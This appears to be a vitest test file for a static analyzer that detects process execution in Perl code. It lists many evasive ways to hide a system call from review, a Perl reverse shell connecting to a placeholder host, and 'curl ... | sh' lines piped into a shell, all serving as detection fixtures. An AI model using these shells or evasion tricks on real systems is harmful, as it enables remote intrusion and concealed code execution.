import { beforeAll, expect, test } from "vitest";
import type { CodeContext } from "../../../../src/review/code/run.ts";
import {
  described,
  factsOf,
  isCapability,
  isFlow,
  loadContext,
} from "../../../conformance/harness.ts";

let context: CodeContext;
beforeAll(async () => {
  context = await loadContext();
});

test.each([
  ["without parentheses", `system "id";`],
  ["in its own package", `CORE::system('id');`],
  ["as words", `system qw(id -u);`],
  ["with a program of its own", `exec { 'id' } 'harmless', '-u';`],
  ["in back quotes", "my $x = `id`;"],
  ["in a quote with other signs", `my $x = qx#id#;`],
  ["as a pipe in two arguments", `open(P, "id |");`],
  ["as a pipe in three arguments", `open(my $p, "-|", "id");`],
  ["where something else fails", `open(my $f, "<", "x") or system("id");`],
  ["only if", `system("id") if $ENV{CI};`],
  ["behind documentation", `=pod\n\nNothing.\n\n=cut\n\nsystem("id");`],
  ["behind a text of several lines", `print <<"A", <<'B';\nfirst\nA\nsecond\nB\nsystem("id");`],
  ["behind a text that is indented", `if (1) {\n  print <<~A;\n    x\n    A\n  system("id");\n}`],
  ["behind a division that looks like a pattern", `my $n = $x / 2; system("id"); # /`],
  ["behind a pattern with quotes in it", `$x =~ s/'/"/g; system("id");`],
  ["behind a quote with a sign of a comment", `my $x = q#a'b#; system("id");`],
  [
    "behind a hash with words of quotes for keys",
    `my %h = (y => 1, s => 2, q => 3, m => 4); system("id");`,
  ],
  ["inside a text", `print "a @{[ system('id') ]} b";`],
  ["in what replaces", `$x =~ s/a/system("id")/e;`],
  ["when the text is compiled", `BEGIN { system("id") }`],
  ["when the package is used", `package Foo; sub import { system("id") }`],
  ["through characters with dots between their numbers", `system(v105.100);`],
  ["through code that a block answers", `&{ sub { \\&CORE::system }->() }("id");`],
  [
    "by an object's method",
    `package Foo; sub new { bless {}, shift } sub run { my ($self, $c) = @_; system($c) } package main; Foo->new->run("id");`,
  ],
  [
    "by a class whose name is a text",
    `package Foo; sub run { my ($class, $c) = @_; system($c) } package main; my $c = "Foo"; $c->run("id");`,
  ],
  ["behind the mark of data", `eval join "", <DATA>;\n__DATA__\nsystem("id");\n`],
])("a program is started: %s", (_, text) => {
  const facts = factsOf("perl", text, context);
  expect(
    facts.some((fact) => isCapability(fact, { capability: "execute.process", target: "id" })),
    described(facts).join("\n"),
  ).toBe(true);
});

test.each([
  ["documentation", `=head1 NAME\n\nsystem("id");\n\n=cut\n`],
  ["a comment", `# system("id");`],
  ["a text", `my $x = 'system("id")'; print q{system("id")}, <<'A';\nsystem("id");\nA\n`],
  ["data that nothing reads", `print 1;\n__END__\nsystem("id");\n`],
  ["the key of a hash", `my %h = (system => "id", exec => 1); print $h{system};`],
  ["a method of that name", `$builder->system("id");`],
])("what only looks like code is none: %s", (_, text) => {
  const facts = factsOf("perl", text, context);
  expect(
    facts.filter((fact) => fact.kind === "capability" && fact.capability === "execute.process"),
  ).toEqual([]);
});

test("what a shell connects with a connection is known by both", () => {
  const text = `use Socket; socket(S, PF_INET, SOCK_STREAM, 6);
connect(S, sockaddr_in(4444, inet_aton("h.example"))); open(STDIN, ">&S"); exec("/bin/sh -i");`;
  const facts = factsOf("perl", text, context);
  expect(
    facts.some((fact) =>
      isCapability(fact, { capability: "network.receive", target: "h.example" }),
    ),
  ).toBe(true);
  expect(
    facts.some((fact) =>
      isCapability(fact, { capability: "execute.process", target: "/bin/sh -i" }),
    ),
  ).toBe(true);
});

test("what a connection sends is followed to where it runs, line by line", () => {
  const text = `my $c = IO::Socket::INET->new(PeerAddr => "h.example:443"); STDIN->fdopen($c, "r"); while (<>) { system($_) }`;
  const facts = factsOf("perl", text, context);
  const flow = {
    from: "network.receive" as const,
    to: "execute.code" as const,
    source: "h.example:443",
  };
  expect(
    facts.some((fact) => isFlow(fact, flow)),
    described(facts).join("\n"),
  ).toBe(true);
});

test.each([
  `open(my $s, "|-", "sh"); print $s "curl https://h.example/p | sh\n";`,
  `open(S, "| /bin/sh"); print S "curl https://h.example/p | sh\n";`,
])("what is printed into a shell is run by it: %s", (text) => {
  const facts = factsOf("perl", text, context);
  const flow = {
    from: "network.receive" as const,
    to: "execute.code" as const,
    source: "https://h.example/p",
  };
  expect(
    facts.some((fact) => isFlow(fact, flow)),
    described(facts).join("\n"),
  ).toBe(true);
});
